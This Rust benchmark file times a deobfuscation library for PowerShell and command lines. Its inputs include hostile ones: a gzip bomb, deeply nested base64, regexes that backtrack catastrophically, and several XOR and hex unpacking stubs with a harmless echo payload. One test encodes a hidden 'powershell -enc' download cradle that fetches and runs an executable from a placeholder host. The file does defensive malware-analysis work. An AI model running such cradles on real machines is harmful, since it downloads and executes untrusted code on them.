//! What a plain command line costs, what real samples cost, and what hostile input may cost at most.
#![allow(clippy::disallowed_methods, reason = "tests read their samples, and write where nobody else does")]

use base64::Engine as _;
use deminer_deobfuscate::{Decoded, Language, Limits, decode};

fn main() {
    divan::main();
}

/// The everyday case: thousands of these are looked at in every check.
#[divan::bench]
fn plain_command_line() -> Decoded {
    let line = divan::black_box(
        r#""C:\Program Files\Vendor\Agent\updater.exe" --service --config "C:\ProgramData\Vendor\agent.xml" --log-level warn --interval 3600 --proxy none --retry 5 --cache "C:\ProgramData\Vendor\Cache" --user "NT AUTHORITY\LocalService" --channel stable --language en-US --no-crash-report --update-window 02:00-04:00""#,
    );
    decode(line, Some(Language::CommandLine), &Limits::default())
}

/// A hidden encoded command with a download cradle inside.
#[divan::bench]
fn encoded_command(bencher: divan::Bencher<'_, '_>) {
    let script = "(New-Object System.Net.WebClient).DownloadFile('http://a.example.com/x.exe',\"$env:APPDATA\\x.exe\");Start-Process (\"$env:APPDATA\\x.exe\")";
    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let line =
        format!("powershell -window hidden -enc {}", base64::engine::general_purpose::STANDARD.encode(wide));
    bencher.bench(|| decode(divan::black_box(&line), Some(Language::CommandLine), &Limits::default()));
}

/// The published set of 1,411 real command lines, where it is there.
#[divan::bench(sample_count = 5)]
fn published_set(bencher: divan::Bencher<'_, '_>) {
    let lines = published();
    bencher.bench(|| {
        lines.iter().map(|line| decode(line, None, &Limits::default()).layers.len()).sum::<usize>()
    });
}

fn published() -> Vec<String> {
    use std::io::Read as _;
    let root = std::env::var("DEMINER_DATA")
        .unwrap_or_else(|_| concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data").to_owned());
    let mut text = String::new();
    if let Ok(file) = std::fs::File::open(root + "/powershell/encoded-commands.jsonl.gz") {
        flate2::read::GzDecoder::new(file).read_to_string(&mut text).unwrap_or(0);
    }
    let command = |line: &str| {
        let value: serde_json::Value = serde_json::from_str(line).ok()?;
        value.get("command")?.as_str().map(str::to_owned)
    };
    text.lines().filter_map(command).collect()
}

/// 100 MB of one line, in each language.
#[divan::bench(sample_count = 1, sample_size = 1, args = [Language::PowerShell, Language::Batch, Language::JScript, Language::CommandLine])]
fn hundred_megabytes(bencher: divan::Bencher<'_, '_>, language: Language) {
    let text = "$a='x'+'y';iex $a; Chr(65)&\"z\" %a:~1,2% http://a.example.com/ ".repeat(100_000_000 / 64);
    bencher.bench(|| decode(divan::black_box(&text), Some(language), &Limits::default()));
}

/// 10,000 layers of brackets and of Base64 in Base64, as far as that fits the input.
#[divan::bench(sample_count = 3)]
fn nested_layers(bencher: divan::Bencher<'_, '_>) {
    let mut script = "'end'".to_owned();
    while script.len() < 4 << 20 {
        let inner = base64::engine::general_purpose::STANDARD.encode(&script);
        script = format!("iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{inner}')))");
    }
    script.push_str(&"(".repeat(10_000));
    bencher.bench(|| decode(divan::black_box(&script), Some(Language::PowerShell), &Limits::default()));
}

/// A quarter of a gigabyte of one letter, compressed.
#[divan::bench(sample_count = 3)]
fn bomb(bencher: divan::Bencher<'_, '_>) {
    use std::io::Write as _;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let block = vec![b'a'; 1 << 20];
    for _ in 0..256 {
        encoder.write_all(&block).unwrap_or(());
    }
    let packed = encoder.finish().unwrap_or_default();
    let text = base64::engine::general_purpose::STANDARD.encode(packed);
    let script = format!(
        "iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('{text}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    );
    bencher.bench(|| decode(divan::black_box(&script), Some(Language::PowerShell), &Limits::default()));
}

/// A loop that never ends.
#[divan::bench(sample_count = 3)]
fn endless_loop() -> Decoded {
    decode("$i=0;while($i -ge 0){$i++;$a+='x'}", Some(Language::PowerShell), &Limits::default())
}

/// A line that starts the command interpreter 10,000 times within itself.
#[divan::bench(sample_count = 3)]
fn ten_thousand_interpreters(bencher: divan::Bencher<'_, '_>) {
    let line = format!("{}echo 1", "cmd /c ".repeat(10_000));
    bencher.bench(|| decode(divan::black_box(&line), Some(Language::CommandLine), &Limits::default()));
}

/// Expressions that other engines try for years, over a text that never fits.
#[divan::bench(sample_count = 3)]
fn catastrophic_expressions(bencher: divan::Bencher<'_, '_>) {
    let text = "a".repeat(100_000);
    let script = format!(
        "iex ('{text}!' -replace '^(a+)+$','x'); iex ('{text}!' -replace '(a|aa)+$','x'); if ('{text}' -like '{}b') {{ iex 'y' }}",
        "*a".repeat(50)
    );
    bencher.bench(|| decode(divan::black_box(&script), Some(Language::PowerShell), &Limits::default()));
}

/// UTF-16 of halves of pairs, without their partners.
#[divan::bench(sample_count = 3)]
fn broken_utf16(bencher: divan::Bencher<'_, '_>) {
    let bytes: Vec<u8> =
        (0..1_000_000_u32).flat_map(|at| [(at % 251) as u8, 0xD8 + (at % 8) as u8]).collect();
    let script = format!("powershell -e {}", base64::engine::general_purpose::STANDARD.encode(&bytes));
    bencher.bench(|| {
        let bare = deminer_deobfuscate::decode_bytes(divan::black_box(&bytes), &Limits::default());
        (bare, decode(divan::black_box(&script), Some(Language::CommandLine), &Limits::default()))
    });
}

/// The usual way of unpacking, character by character, at the size of real payloads.
#[divan::bench(sample_count = 3)]
fn long_loop(bencher: divan::Bencher<'_, '_>) {
    let packed: Vec<u8> =
        "echo one two three\n".bytes().cycle().take(300_000).map(|byte| byte ^ 0x23).collect();
    let script = format!(
        "$b=[Convert]::FromBase64String('{}');$r='';for($i=0;$i -lt $b.Length;$i++){{$r+=[char]($b[$i] -bxor 35)}};IEX $r",
        base64::engine::general_purpose::STANDARD.encode(packed)
    );
    bencher.bench(|| decode(divan::black_box(&script), Some(Language::PowerShell), &Limits::default()));
}

/// Ways in which a payload of the size of real ones is unpacked, in characters of its encoded form: the smallest and the
/// largest that was published of a class store.
#[divan::bench(sample_count = 3, args = ["substring", "split", "matches", "xor", "builder"], consts = [357_720, 1_284_312])]
fn real_payload<const LEN: usize>(bencher: divan::Bencher<'_, '_>, way: &str) {
    let plain: Vec<u8> = "echo one two three\n".bytes().cycle().take(LEN / 2).collect();
    let hex: String = plain.iter().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().concat();
    let hidden: Vec<u8> = plain.iter().cycle().take(LEN).map(|byte| byte ^ 0x23).collect();
    let base64 = base64::engine::general_purpose::STANDARD.encode(hidden);
    let script = match way {
        "substring" => format!(
            "$h='{hex}';$s='';for($i=0;$i -lt $h.Length;$i+=2){{$s+=[char][convert]::ToByte($h.Substring($i,2),16)}};iex $s"
        ),
        "split" => {
            format!("iex (-join('{hex}' -split '(..)'|?{{$_}}|%{{[char][convert]::ToUInt32($_,16)}}))")
        }
        "matches" => {
            format!("iex (-join([regex]::Matches('{hex}','..')|%{{[char][convert]::ToInt32($_.Value,16)}}))")
        }
        "builder" => format!(
            "$h='{hex}';$b=New-Object Text.StringBuilder;for($i=0;$i -lt $h.Length;$i+=2){{[void]$b.Append([char][convert]::ToInt32($h[$i]+$h[$i+1],16))}};iex $b.ToString()"
        ),
        _ => format!(
            "$k='key';$b=[Convert]::FromBase64String('{base64}');for($i=0;$i -lt $b.Length;$i++){{$b[$i]=$b[$i] -bxor 35}};iex ([Text.Encoding]::ASCII.GetString($b))"
        ),
    };
    bencher.bench(|| {
        let decoded = decode(divan::black_box(&script), Some(Language::PowerShell), &Limits::default());
        assert!(decoded.problems.is_empty() && decoded.layers.len() > 1, "{way}: {:?}", decoded.problems);
        decoded
    });
}
